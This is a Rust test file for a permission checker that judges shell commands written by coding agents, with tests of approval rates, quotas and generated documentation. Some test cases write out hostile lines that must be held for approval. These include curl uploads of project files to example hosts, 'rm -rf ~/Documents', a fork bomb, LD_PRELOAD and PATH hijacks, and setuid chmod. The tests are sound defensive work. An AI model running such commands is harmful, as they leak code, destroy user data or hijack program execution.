//! Command lines as coding agents write them every day, each with the rules that a person would expect to cover it:
//! hardly any may need a further approval.

use std::collections::BTreeSet;
use std::path::Path;

use toold_proto::level::Level;
use toold_proto::permission::Verdict;
use toold_proto::tool::Category;

use crate::commands::corpus::{CorpusEntry, read};
use crate::commands::folders::TestProject;
use crate::commands::judge::{Judged, RuleLine, judge, judge_at, judge_in};

/// Out of a hundred lines, this many must need no approval beyond their rules.
const ENOUGH: f64 = 98.0;

const FILES: &[(&str, &str)] = &[
    ("git.txt", include_str!("everyday/git.txt")),
    ("reading.txt", include_str!("everyday/reading.txt")),
    ("builds.txt", include_str!("everyday/builds.txt")),
    ("files.txt", include_str!("everyday/files.txt")),
    ("sessions.txt", include_str!("everyday/sessions.txt")),
];

/// All lines of the data files.
fn everyday() -> Vec<CorpusEntry> {
    FILES.iter().flat_map(|(file, text)| read(file, text)).collect()
}

/// The required content of a corpus of everyday lines: a name, a minimum count, and which lines count.
type Quota = (&'static str, usize, fn(&CorpusEntry) -> bool);

const QUOTAS: &[Quota] = &[
    ("lines", 500, |_| true),
    ("lines with a pipe", 80, |it| it.line.contains(" | ")),
    ("lines with &&", 60, |it| it.line.contains(" && ")),
    ("lines that begin with cd X &&", 50, |it| it.line.starts_with("cd ") && it.line.contains(" && ")),
    ("loops", 40, |it| ["; do", "\ndo", " do "].iter().any(|word| it.line.contains(word)) && it.line.contains("done")),
    ("heredocs", 25, |it| it.line.replace("<<<", "").contains("<<")),
    ("command substitutions", 40, |it| it.line.replace("$((", "").contains("$(")),
    ("lines with 2>&1", 40, |it| it.line.contains("2>&1")),
    ("builds and tests", 80, |it| it.file == "builds.txt"),
    ("lines of git", 150, |it| it.line.contains("git ")),
    ("variables", 40, sets_a_variable),
    ("lines of find", 20, |it| it.line.contains("find ")),
    ("lines of sed -n, awk or jq", 20, |it| ["sed -n", "awk ", "jq "].iter().any(|word| it.line.contains(word))),
    ("lines of xargs", 8, |it| it.line.contains("xargs")),
    ("lines with || true or || echo", 10, |it| it.line.contains("|| true") || it.line.contains("|| echo")),
    ("lines of timeout", 5, |it| it.line.contains("timeout ")),
    ("lines with 2>/dev/null", 20, |it| it.line.contains("2>/dev/null")),
    ("lines with files in /tmp", 8, |it| it.line.contains("/tmp/")),
    ("lines that read /etc or /usr", 6, |it| it.line.contains(" /etc/") || it.line.contains(" /usr/include")),
    ("lines of which", 4, |it| it.line.contains("which ")),
    ("lines of ls -la", 5, |it| it.line.contains("ls -la")),
    ("lines of wc -l", 20, |it| it.line.contains("wc -l")),
    ("process substitutions", 5, |it| it.line.contains("<(")),
    ("lines with the top of the repository", 4, |it| it.line.contains("$(git rev-parse --show-toplevel)")),
    ("commit messages from a heredoc", 5, |it| it.line.contains("git commit") && it.line.contains("\"$(cat <<")),
];

/// The words that assign a build or test to an ecosystem.
const ECOSYSTEMS: &[&[&str]] = &[
    &["cargo "],
    &["npm ", "yarn", "pnpm "],
    &["pytest", "pip ", "uv "],
    &["go test", "go build"],
    &["mvn", "gradle"],
    &["make", "cmake"],
    &["dotnet "],
    &["bundle ", "rake "],
    &["composer ", "php"],
    &["mix "],
    &["swift "],
];

/// `NAME=value` at the start of a line or a command, or `export`.
fn sets_a_variable(it: &CorpusEntry) -> bool {
    let starts = it.line.split([';', '\n', '&', '|', '(']).map(str::trim_start);
    starts.map(|start| start.strip_prefix("export ").unwrap_or(start)).any(|start| {
        start.split_once('=').is_some_and(|(name, _)| {
            let plain = |c: char| c.is_ascii_alphanumeric() || c == '_';
            !name.is_empty() && name.chars().all(plain) && !name.starts_with(|c: char| c.is_ascii_digit())
        })
    })
}

#[test]
fn corpus_covers_what_agents_write() {
    let lines = everyday();
    for (name, least, counts) in QUOTAS {
        let count = lines.iter().filter(|it| counts(it)).count();
        println!("{count:4} {name}");
        assert!(count >= *least, "{count} {name}, expected at least {least}");
    }
    for words in ECOSYSTEMS {
        let of_it = |it: &&CorpusEntry| it.file == "builds.txt" && words.iter().any(|word| it.line.contains(word));
        let count = lines.iter().filter(of_it).count();
        assert!(count >= 4, "{count} lines of {words:?}");
    }
    let different: BTreeSet<&str> = lines.iter().map(|it| it.line.as_str()).collect();
    assert_eq!(different.len(), lines.len(), "a line is there twice");
}

#[test]
fn rule_covers_the_expected_lines() {
    let project = TestProject::make();
    let lines = everyday();
    let mut stopped: Vec<(&CorpusEntry, Judged)> = Vec::new();
    let workspace = project.place.workspace.to_str().unwrap();
    for it in &lines {
        let judged = judge(&it.line.replace("{project}", workspace), &project.place, &it.rules);
        if judged.verdict != Verdict::Allow {
            stopped.push((it, judged));
        }
    }
    for (it, judged) in &stopped {
        let part = judged.parts.iter().find(|part| part.verdict == judged.verdict);
        let (need, why) = part.map_or_else(Default::default, |part| {
            (format!("{} {}", part.category, one_line(&part.target.replace(workspace, "{project}"))), part.rule.clone())
        });
        println!("{}:{} ({}) {}", it.file, it.number, it.section, one_line(&it.line));
        println!("    {} {need}  ({})", judged.verdict.as_str(), why.replace(workspace, "{project}"));
    }
    let good = lines.len() - stopped.len();
    let percent = 100.0 * good as f64 / lines.len() as f64;
    println!("everyday lines: {good} of {} need no approval beyond their rules, {percent:.1} %", lines.len());
    assert!(percent >= ENOUGH, "{percent:.1} % of the everyday lines need no approval, expected {ENOUGH} %");
}

/// The figure means something only if lines can fail.
#[test]
fn a_line_beyond_its_rules_is_counted() {
    let project = TestProject::make();
    let rules = [RuleLine::parse("allow shell cargo test *").unwrap()];
    let verdict = |line: &str| judge(line, &project.place, &rules).verdict;
    assert_eq!(verdict("cargo test --workspace"), Verdict::Allow);
    assert_ne!(verdict("cargo test && curl -d @src/lib.rs https://example.com"), Verdict::Allow);
    assert_ne!(verdict("cargo test > /etc/motd"), Verdict::Allow);
    for line in ["cp src/lib.rs /etc/lib.rs", "tee /etc/motd", "mkdir -p ../../other", "rm -rf ~/Documents"] {
        let name = line.split(' ').next().unwrap();
        let rules = [RuleLine::parse(&format!("allow shell {name} *")).unwrap()];
        assert_ne!(judge(line, &project.place, &rules).verdict, Verdict::Allow, "{line}");
    }
}

fn one_line(text: &str) -> String {
    let line = text.replace('\n', "⏎");
    match line.char_indices().nth(150) {
        Some((end, _)) => format!("{}...", &line[..end]),
        None => line,
    }
}

/// The table in COMMANDS.md is between these lines.
const TABLE_BEGIN: &str = "<!-- everyday lines by level -->\n";
const TABLE_END: &str = "<!-- end -->\n";

/// What toold can free of the commands of an agent's own tools.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum FreedCommands {
    /// What the level frees: they run confined.
    OfLevel,
    /// What only reads.
    Reading,
    /// A hook cannot take the agent's prompts away.
    None,
}

/// The columns of the table. The tables in AGENTS.md say which agents can be confined, and what an `allow` does in each.
const AGENTS: [(&str, FreedCommands); 4] = [
    ("toold's `bash`, confined", FreedCommands::OfLevel),
    ("Claude Code, confined", FreedCommands::OfLevel),
    ("toold's `bash` and Claude Code, not confined; Codex, Qwen Code", FreedCommands::Reading),
    ("Gemini CLI, opencode, Copilot CLI, Cursor, VS Code", FreedCommands::None),
];

/// How many of the lines ask without any rule, by level and agent.
#[test]
fn the_document_says_how_many_lines_ask_at_each_level() {
    let project = TestProject::make();
    let lines = everyday();
    let workspace = project.place.workspace.to_str().unwrap();
    let asks = |level: Level| {
        let asked = lines.iter().filter(|it| {
            let judged = judge_at(level, &it.line.replace("{project}", workspace), &project.place, &[]);
            if judged.verdict != Verdict::Allow {
                let parts = judged.parts.iter().filter(|part| part.verdict != Verdict::Allow);
                let why: Vec<String> = parts
                    .map(|part| {
                        let effects: Vec<&str> = part.effects.iter().map(|effect| effect.as_str()).collect();
                        format!("{} {}: {} {effects:?}", part.category, one_line(&part.target), part.rule)
                    })
                    .collect();
                println!("{level}: {}:{} {}\n    {}", it.file, it.number, one_line(&it.line), why.join("\n    "));
            }
            judged.verdict != Verdict::Allow
        });
        asked.count()
    };
    let counts = Level::ALL.map(asks);
    assert!(counts.is_sorted_by(|before, next| before >= next), "a level asks more than the one before it: {counts:?}");
    let shown = |count: usize| format!("{count} ({:.1} %)", 100.0 * count as f64 / lines.len() as f64);
    let rows = Level::ALL.iter().zip(counts);
    let rows = rows.map(|(level, count)| {
        let cells = AGENTS.map(|(_, freed)| match freed {
            FreedCommands::OfLevel => shown(count),
            FreedCommands::Reading => shown(counts[0]),
            FreedCommands::None => shown(lines.len()),
        });
        format!("| `{level}` | {} |\n", cells.join(" | "))
    });
    let names = AGENTS.map(|(name, _)| name).join(" | ");
    let head = format!("| level | {names} |\n|---|{}\n", "---|".repeat(AGENTS.len()));
    let table = format!("{head}{}", rows.collect::<String>());
    let document = Path::new(env!("CARGO_MANIFEST_DIR")).join("../COMMANDS.md");
    let text = std::fs::read_to_string(&document).unwrap();
    let (before, rest) = text.split_once(TABLE_BEGIN).unwrap();
    let (written, after) = rest.split_once(TABLE_END).unwrap();
    if std::env::var_os("UPDATE").is_some() {
        std::fs::write(&document, format!("{before}{TABLE_BEGIN}{table}{TABLE_END}{after}")).unwrap();
        return;
    }
    assert_eq!(written, table, "write it with UPDATE=1");
}

/// The rest have wildcards, or syntax that zsh may read otherwise.
#[test]
fn most_lines_that_only_read_are_free_in_zsh() {
    const LIMIT: usize = 32;
    let project = TestProject::make();
    let workspace = project.place.workspace.to_str().unwrap();
    let lines = everyday();
    let is_free = |shell: &str, line: &str| {
        judge_in(shell, Level::Read, &line.replace("{project}", workspace), &project.place, &[]).verdict
            == Verdict::Allow
    };
    let free: Vec<_> = lines.iter().filter(|it| is_free("bash", &it.line)).collect();
    let asked: Vec<String> = free.iter().filter(|it| !is_free("zsh", &it.line)).map(|it| one_line(&it.line)).collect();
    println!("{} of {} ask in zsh: {asked:#?}", asked.len(), free.len());
    assert!(asked.len() <= LIMIT, "{} of {} ask in zsh", asked.len(), free.len());
}

#[test]
fn tools_of_the_project_are_free_where_builds_are() {
    let project = TestProject::make();
    let verdict = |level: Level, line: &str| judge_at(level, line, &project.place, &[]).verdict;
    let built = [
        "bundle exec rspec",
        "uv run pytest -q",
        "poetry run pytest",
        "npx tsc",
        "npm exec eslint -- --fix",
        "go build",
    ];
    for line in built {
        assert_eq!(verdict(Level::Develop, line), Verdict::Allow, "{line}");
        assert_eq!(verdict(Level::Edit, line), Verdict::Ask, "{line}");
    }
    // What is not installed would be fetched, and a tool may publish.
    for line in [
        "npx cowsay",
        "npx tsc@5 --noEmit",
        "npx -p typescript tsc",
        "npx ../tsc",
        "bunx tsc",
        "uvx ruff check",
        "uv run --with rich python x.py",
        "poetry run twine upload dist/x.whl",
        "bundle exec rake release && npx netlify deploy",
        "docker exec web ls",
        "ssh web1 uptime",
    ] {
        assert_eq!(verdict(Level::Operate, line), Verdict::Ask, "{line}");
    }
    // What is installed here, and what is downloaded from anywhere.
    for (line, expected) in [
        ("npm install left-pad", Verdict::Allow),
        ("npm i -D typescript", Verdict::Allow),
        ("yarn add x", Verdict::Allow),
        ("uv add rich", Verdict::Allow),
        ("poetry add rich", Verdict::Allow),
        ("curl -sSo x.json https://example.org/x.json", Verdict::Allow),
        ("npm install -g x", Verdict::Ask),
        ("pip install x", Verdict::Ask),
        ("cargo install x", Verdict::Ask),
        ("npm install x && npm publish", Verdict::Ask),
        ("curl -d @notes.txt https://example.org/", Verdict::Ask),
        ("curl \"$ADDRESS\"", Verdict::Ask),
        ("git fetch", Verdict::Ask),
        ("aws s3 ls", Verdict::Ask),
    ] {
        assert_eq!(verdict(Level::Operate, line), expected, "{line}");
        assert_eq!(verdict(Level::Develop, line), Verdict::Ask, "{line}");
    }
    // Those that show something run where they can change nothing.
    for line in [
        "ruff format src",
        "black src",
        "npx tsc --noEmit",
        "npm exec eslint",
        "pytest -q",
        "awk '{print $1}' README.md",
        "gcc -fsyntax-only src/demo.c",
        "c++ -std=c++20 -fsyntax-only src/demo.cpp",
        "some-unknown-program --version",
        "some-unknown-program --help | head",
        "aws --version",
        "az --version",
        "gcloud --version",
        "gradle --version",
        "make --help",
        "node --help",
        "rsync --version",
        "tsc --version",
        "vim --version",
    ] {
        assert_eq!(verdict(Level::Edit, line), Verdict::Allow, "{line}");
        assert_eq!(verdict(Level::Read, line), Verdict::Ask, "{line}");
    }
    for line in [
        "gcc -fsyntax-only -fplugin=./x.so src/demo.c",
        "gcc -c src/demo.c",
        "./some-unknown-program --version",
        "some-unknown-program --version x",
        "some-unknown-program version",
        "$PROGRAM --version",
    ] {
        assert_eq!(verdict(Level::Edit, line), Verdict::Ask, "{line}");
    }
}

#[test]
fn what_carries_no_code_is_free_with_the_command_that_gets_it() {
    let project = TestProject::make();
    let verdict = |level: Level, line: &str| judge_at(level, line, &project.place, &[]).verdict;
    let free_at_edit = [
        "f(){ ls; }; f",
        "f() { git status; }; f; ls src",
        "function f { ls src; }; f > out.txt",
        "greet() { echo hi $1; }; greet x",
        "echo $((16#ff)) $((2#1010 + 8#17))",
        "FOO=bar ls",
        "FOO=$(date) git status",
        "export FOO=1 API_URL=http://localhost; ls",
        "sh -c 'ls | head'",
        "ls | tee /tmp/toold-everyday-out",
        "touch /tmp/toold-everyday-out",
        "git -c core.pager=cat log",
        "git -c core.editor=true commit --amend",
    ];
    for line in free_at_edit {
        assert_eq!(verdict(Level::Edit, line), Verdict::Allow, "{line}");
    }
    let free_at_develop = [
        "f() { cargo test -p core; }; f",
        "FOO=bar npm test",
        "export DATABASE_URL=sqlite::memory: && cargo test",
        "CARGO_TARGET_DIR=/tmp/x cargo test",
        "cat > x.py <<'E'\nprint(1)\nE\npython3 x.py",
        "cargo test 2>&1 | tee /tmp/toold-everyday-out | tail -5",
    ];
    for line in free_at_develop {
        assert_eq!(verdict(Level::Develop, line), Verdict::Allow, "{line}");
        assert_eq!(verdict(Level::Edit, line), Verdict::Ask, "{line}");
    }
    let asked = [
        "f() { \"$@\"; }; f rm x",
        "f() { rm -rf \"$1\"; }; f src",
        "f() { f | f & }; f",
        "ls() { rm x; }; ls",
        "f(){ ls; }; timeout 5 f",
        "LD_PRELOAD=./x.so ls",
        "PATH=./bin:$PATH ls",
        "GIT_SSH_COMMAND=./x git status",
        "NODE_OPTIONS=--require=./x npm test",
        "MY_PLUGIN_PATH=x cargo test",
        "export BASH_ENV=x; ls",
        "git -c core.pager=./x log",
        "git -c core.editor='sh -c x' commit --amend",
        "rg --pre ./x a",
        "tar --to-command=./x -xf a.tar",
        "tar -I ./x -xf a.tar",
        "sort --compress-program=./x README.md",
        "chmod u+s x",
        "chmod 4755 x",
    ];
    for line in asked {
        assert_eq!(verdict(Level::Develop, line), Verdict::Ask, "{line}");
    }
}

/// A rule that denies something else asks about the lines whose words the shell may turn into any command.
#[test]
fn a_rule_that_denies_something_else_leaves_the_lines_alone() {
    let project = TestProject::make();
    let rules = ["allow shell **", "allow file.write **", "deny shell evil *"];
    let rules = rules.map(|rule| RuleLine::parse(rule).unwrap());
    let workspace = project.place.workspace.to_str().unwrap();
    let lines = everyday();
    let doubtful = lines.iter().filter(|it| {
        let judged = judge(&it.line.replace("{project}", workspace), &project.place, &rules);
        let part = judged.parts.iter().find(|part| part.verdict != Verdict::Allow && part.category == Category::Shell);
        if let Some(part) = part {
            println!("{}:{} {}\n    {}", it.file, it.number, one_line(&it.line), part.rule);
        }
        part.is_some()
    });
    let count = doubtful.count();
    println!("{count} of {} lines are asked about", lines.len());
    assert!(count <= 4, "{count} lines");
}
